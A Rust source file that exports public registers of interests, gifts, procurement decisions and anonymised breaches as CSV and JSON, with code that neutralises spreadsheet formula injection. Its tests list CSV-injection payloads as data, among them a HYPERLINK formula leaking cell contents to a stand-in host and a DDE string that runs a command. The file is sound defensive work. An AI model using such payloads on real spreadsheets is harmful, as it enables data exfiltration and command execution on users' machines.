//! Open data: each register as CSV (RFC 4180, header row, UTF-8 with BOM so
//! spreadsheets open it cleanly) and JSON, and the public export of the audit chain.

use super::business::Ctx;
use super::markdown;
use super::views::Visible;
use crate::audit::ChainEntry;
use crate::domain::entries::Entry;
use crate::domain::gifts::GiftFields;
use crate::domain::interests::DeclarationFields;
use crate::domain::people::Person;
use crate::store::entries::Version;
use serde_json::{json, Value};

const BOM: &[u8] = "\u{feff}".as_bytes();

/// A CSV writer as RFC 4180 has it: records end in CR LF.
fn rfc4180<W: std::io::Write>(w: W) -> csv::Writer<W> {
    csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(w)
}

fn csv_bytes(header: &[&str], rows: &[Vec<String>]) -> Vec<u8> {
    let mut w = rfc4180(BOM.to_vec());
    w.write_record(header)
        .expect("writing to memory cannot fail");
    for r in rows {
        w.write_record(r).expect("writing to memory cannot fail");
    }
    w.into_inner().expect("writing to memory cannot fail")
}

/// Published declarations as JSON records (raw values: ISO dates, codes).
pub fn interests_records(v: &Visible) -> Vec<Value> {
    interests_iter(v).collect()
}

/// [`interests_records`], one at a time.
pub fn interests_iter<'a>(v: &'a Visible) -> impl Iterator<Item = Value> + 'a {
    let settings = &v.snapshot.org.settings;
    let public = |d: &Entry<DeclarationFields>| v.declaration_is_public(d.id);
    published(v, &v.snapshot.declarations, public, move |ver, d, p| {
        let f = &d.fields;
        json!({
            "id": d.id, "version": d.version, "person": p.fields.name, "person_slug": p.slug,
            "position": f.position.clone().unwrap_or_else(|| p.fields.position.clone()),
            "interest_type": f.interest_type.code(), "associate": f.associate,
            "description": f.description, "body": f.body, "arose_on": f.arose_on.to_string(),
            "ended_on": f.ended_on.map(|e| e.to_string()), "declared_on": f.declared_on.to_string(),
            "days_late": f.days_late(settings), "mitigation": f.mitigation, "audit_seq": ver.audit_seq,
        })
    })
}

/// The versions of a register the public sees (`public`), each with its person, as
/// `record` makes them.
fn published<'a, F: 'a>(
    v: &'a Visible,
    versions: &'a [Version<F>],
    public: impl Fn(&Entry<F>) -> bool + 'a,
    record: impl Fn(&Version<F>, &Entry<F>, &Person) -> Value + 'a,
) -> impl Iterator<Item = Value> + 'a {
    versions
        .iter()
        .filter(move |ver| public(&ver.entry))
        .filter_map(move |ver| Some(record(ver, &ver.entry, v.person(ver.entry.person_id)?)))
}

pub const INTEREST_COLUMNS: [&str; 15] = [
    "id",
    "version",
    "person",
    "person_slug",
    "position",
    "interest_type",
    "associate",
    "description",
    "body",
    "arose_on",
    "ended_on",
    "declared_on",
    "days_late",
    "mitigation",
    "audit_seq",
];

/// Published gifts and hospitality as JSON records.
pub fn gifts_records(v: &Visible) -> Vec<Value> {
    gifts_iter(v).collect()
}

/// [`gifts_records`], one at a time.
pub fn gifts_iter<'a>(v: &'a Visible) -> impl Iterator<Item = Value> + 'a {
    let settings = &v.snapshot.org.settings;
    let public = |g: &Entry<GiftFields>| v.gift_is_public(g.id);
    published(v, &v.snapshot.gifts, public, move |ver, g, p| {
        let f = &g.fields;
        let a = f.assessment(settings);
        json!({
            "id": g.id, "version": g.version, "person": p.fields.name, "person_slug": p.slug,
            "position": p.fields.position, "giver": f.giver, "giver_is_supplier": f.giver_is_supplier,
            "kind": f.kind.code(), "description": f.description, "value_pence": f.value_pence,
            "offered_on": f.offered_on.to_string(), "outcome": f.outcome.code(), "approved_by": f.approved_by,
            "declared_on": f.declared_on.to_string(), "declaration_required": a.must_declare, "audit_seq": ver.audit_seq,
        })
    })
}

pub const GIFT_COLUMNS: [&str; 16] = [
    "id",
    "version",
    "person",
    "person_slug",
    "position",
    "giver",
    "giver_is_supplier",
    "kind",
    "description",
    "value_pence",
    "offered_on",
    "outcome",
    "approved_by",
    "declared_on",
    "declaration_required",
    "audit_seq",
];

/// The register of procurement decisions as JSON records: one field per column of the
/// register (DOMAIN.md), the taking item's conflicts and quorum as readable summaries,
/// withdrawn decisions included with their reason.
pub fn decisions_records(ctx: &Ctx, base: &str) -> Vec<Value> {
    let mut ds: Vec<_> = ctx.b.decisions.iter().collect();
    ds.sort_by(|a, b| {
        (a.record.fields.decided_on, &a.record.fields.reference)
            .cmp(&(b.record.fields.decided_on, &b.record.fields.reference))
    });
    ds.into_iter()
        .map(|d| {
            let f = &d.record.fields;
            let taken_at = ctx.taken_at(&d.record);
            json!({
                "reference": f.reference, "title": f.title,
                "service_description": f.service_description,
                "service_status": crate::domain::decisions::ServiceStatus::CODES[f.service_status as usize],
                "route": f.route, "clinical_lead": f.clinical_lead, "contract_manager": f.contract_manager,
                "decided_on": f.decided_on.to_string(),
                "committee": taken_at.as_ref().map(|t| &t.0),
                "meeting_date": taken_at.as_ref().map(|t| t.1.to_string()),
                "item_number": taken_at.as_ref().map(|t| &t.2),
                "how_decided": f.how_decided,
                "conflicts": ctx.conflicts_text(&d.record),
                "quorum": ctx.quorum_text(&d.record),
                "justification": f.justification, "supplier": f.supplier,
                "value_pence": f.value_pence, "term_months": f.term_months,
                "starts_on": f.starts_on.map(|s| s.to_string()), "comments": f.comments,
                "status": if d.record.withdrawn_reason.is_some() { "withdrawn" } else { "current" },
                "withdrawn_reason": d.record.withdrawn_reason,
                "audit_seq": d.audit_seq,
                "url": format!("{base}{}", ctx.decision_href(&d.record)),
            })
        })
        .collect()
}

pub const DECISION_COLUMNS: [&str; 24] = [
    "reference",
    "title",
    "service_description",
    "service_status",
    "route",
    "clinical_lead",
    "contract_manager",
    "decided_on",
    "committee",
    "meeting_date",
    "item_number",
    "how_decided",
    "conflicts",
    "quorum",
    "justification",
    "supplier",
    "value_pence",
    "term_months",
    "starts_on",
    "comments",
    "status",
    "withdrawn_reason",
    "audit_seq",
    "url",
];

/// The record of breaches, anonymised: the person concerned is never exported.
pub fn breaches_records(ctx: &Ctx) -> Vec<Value> {
    let mut bs: Vec<_> = ctx.b.breaches.iter().collect();
    bs.sort_by_key(|b| (b.record.occurred_on, b.id));
    bs.into_iter()
        .map(|b| {
            let r = &b.record;
            json!({
                "id": b.id, "occurred_on": r.occurred_on.to_string(),
                "identified_on": r.identified_on.to_string(), "summary": r.summary,
                "action_taken": r.action_taken, "reported_to": r.reported_to,
                "audit_seq": b.audit_seq,
            })
        })
        .collect()
}

pub const BREACH_COLUMNS: [&str; 7] = [
    "id",
    "occurred_on",
    "identified_on",
    "summary",
    "action_taken",
    "reported_to",
    "audit_seq",
];

/// Columns holding markdown, exported to CSV as plain text.
const MARKDOWN_COLUMNS: [&str; 4] = [
    "description",
    "service_description",
    "justification",
    "comments",
];

/// Columns holding whole numbers, written as numbers; every other column is text.
/// Decided by column, not by value, so a negative number stays a number and a text
/// that looks like one (`-2+3`) is still neutralised.
pub const NUMERIC_COLUMNS: [&str; 9] = [
    "id",
    "version",
    "days_late",
    "value_pence",
    "term_months",
    "audit_seq",
    "mean_earnings_pence",
    "full_time_gps",
    "part_time_gps",
];

/// What a spreadsheet may take for the start of a formula (OWASP, "CSV Injection").
const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text cell as it is safe to open in a spreadsheet: one that starts with a formula
/// trigger gets a single quote in front (as OWASP recommends), so Excel, LibreOffice
/// and Sheets show it as the text it is instead of running it. Every text cell of every
/// CSV file goes through here.
pub fn text_cell(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(FORMULA_TRIGGERS) {
        format!("'{text}").into()
    } else {
        text.into()
    }
}

/// The CSV cell of column `column` holding `v`.
fn cell(column: &str, v: &Value) -> String {
    match v {
        Value::Null => String::new(),
        Value::Number(n) if NUMERIC_COLUMNS.contains(&column) => n.to_string(),
        Value::String(s) if MARKDOWN_COLUMNS.contains(&column) => {
            text_cell(&markdown::to_text(s)).into_owned()
        }
        Value::String(s) => text_cell(s).into_owned(),
        other => text_cell(&other.to_string()).into_owned(),
    }
}

/// Records as CSV with the given columns (descriptions as plain text).
pub fn to_csv(columns: &[&str], records: &[Value]) -> Vec<u8> {
    let rows: Vec<Vec<String>> = records
        .iter()
        .map(|r| columns.iter().map(|c| cell(c, &r[*c])).collect())
        .collect();
    csv_bytes(columns, &rows)
}

/// Records as a JSON document naming the organisation and when it last changed.
pub fn to_json(v: &Visible, register: &str, records: Vec<Value>) -> Vec<u8> {
    let org = &v.snapshot.org;
    let doc = json!({
        "organisation": {"slug": org.slug, "name": org.name},
        "register": register,
        "as_of_seq": org.chain_seq,
        "chain_head": org.chain_head,
        "records": records,
    });
    let mut out = serde_json::to_vec_pretty(&doc).expect("JSON values serialise");
    out.push(b'\n');
    out
}

/// Write records as CSV (to `csv`) and as the JSON document of [`to_json`] (to
/// `json`) at once, one record at a time, so a register of any size takes little memory.
pub fn write_both(
    csv_out: &mut impl std::io::Write,
    json_out: &mut impl std::io::Write,
    v: &Visible,
    register: &str,
    columns: &[&str],
    records: impl Iterator<Item = Value>,
) -> std::io::Result<()> {
    csv_out.write_all(BOM)?;
    let mut w = rfc4180(csv_out);
    w.write_record(columns)?;
    let org = &v.snapshot.org;
    let head = json!({
        "organisation": {"slug": org.slug, "name": org.name},
        "register": register,
        "as_of_seq": org.chain_seq,
        "chain_head": org.chain_head,
    });
    let head = serde_json::to_string(&head).expect("JSON values serialise");
    json_out.write_all(&head.as_bytes()[..head.len() - 1])?;
    json_out.write_all(b",\"records\":[")?;
    for (i, r) in records.enumerate() {
        let row: Vec<String> = columns.iter().map(|c| cell(c, &r[*c])).collect();
        w.write_record(&row)?;
        if i > 0 {
            json_out.write_all(b",")?;
        }
        json_out.write_all(b"\n")?;
        serde_json::to_writer(&mut *json_out, &r)?;
    }
    w.flush()?;
    json_out.write_all(b"\n]}\n")?;
    Ok(())
}

/// The public form of a chain entry: its payload only where the record is public.
pub fn public_entry(v: &Visible, e: ChainEntry) -> ChainEntry {
    if v.entry_is_public(&e) {
        e
    } else {
        e.withheld()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::publish::views::fixture;
    use serde_json::json;

    #[test]
    fn breach_payloads_that_name_someone_are_null_in_the_public_chain() {
        let named = fixture::entry(
            1,
            "create",
            "breach",
            1,
            json!({"occurred_on": "2026-02-01", "identified_on": "2026-02-01", "summary": "s",
                   "action_taken": "a", "reported_to": null, "person_id": 1, "id": 1, "version": 1}),
        );
        let mut anonymous = named.clone();
        anonymous.header.seq = 2;
        anonymous.payload.as_mut().unwrap()["person_id"] = Value::Null;
        let s = fixture::snapshot(Default::default(), vec![]);
        let v = Visible::new(&s, chrono::NaiveDate::from_ymd_opt(2026, 3, 4).unwrap());
        let public = public_entry(&v, named.clone());
        assert_eq!(public.payload, None);
        assert_eq!(
            public.header, named.header,
            "the header, and so the hash, stays"
        );
        assert!(!public.to_json_line().contains("person_id"));
        assert_eq!(
            public_entry(&v, anonymous.clone()).payload,
            anonymous.payload
        );
    }

    #[test]
    fn text_starting_with_a_formula_trigger_gets_a_quote_in_front() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
        ] {
            assert_eq!(text_cell(formula), format!("'{formula}"));
        }
        for text in ["Riverside Practice", "", "2 = 2", "'quoted", " =x", "£5"] {
            assert_eq!(text_cell(text), text, "{text:?} is left alone");
        }
    }

    #[test]
    fn numeric_columns_stay_numbers_and_text_columns_are_neutralised() {
        let csv = to_csv(
            &[
                "id",
                "days_late",
                "value_pence",
                "reference",
                "justification",
                "associate",
            ],
            &[
                json!({"id": 3, "days_late": -2, "value_pence": 1500, "reference": "-2+3",
                     "justification": "=1+1 **bold**", "associate": "@x"}),
            ],
        );
        let text = String::from_utf8(csv).unwrap();
        assert!(
            text.ends_with("\r\n3,-2,1500,'-2+3,'=1+1 bold,'@x\r\n"),
            "{text}"
        );
        // A number where a text column is expected is text, so it is neutralised too.
        let csv = to_csv(&["reference"], &[json!({"reference": -4})]);
        assert!(String::from_utf8(csv).unwrap().ends_with("'-4\r\n"));
    }

    #[test]
    fn markdown_columns_are_plain_text_in_csv() {
        let csv = to_csv(
            &["reference", "justification"],
            &[json!({"reference": "PCD-**1**", "justification": "Best **value**"})],
        );
        let text = String::from_utf8(csv).unwrap();
        assert!(text.contains("PCD-**1**,Best value"), "{text}");
    }
}
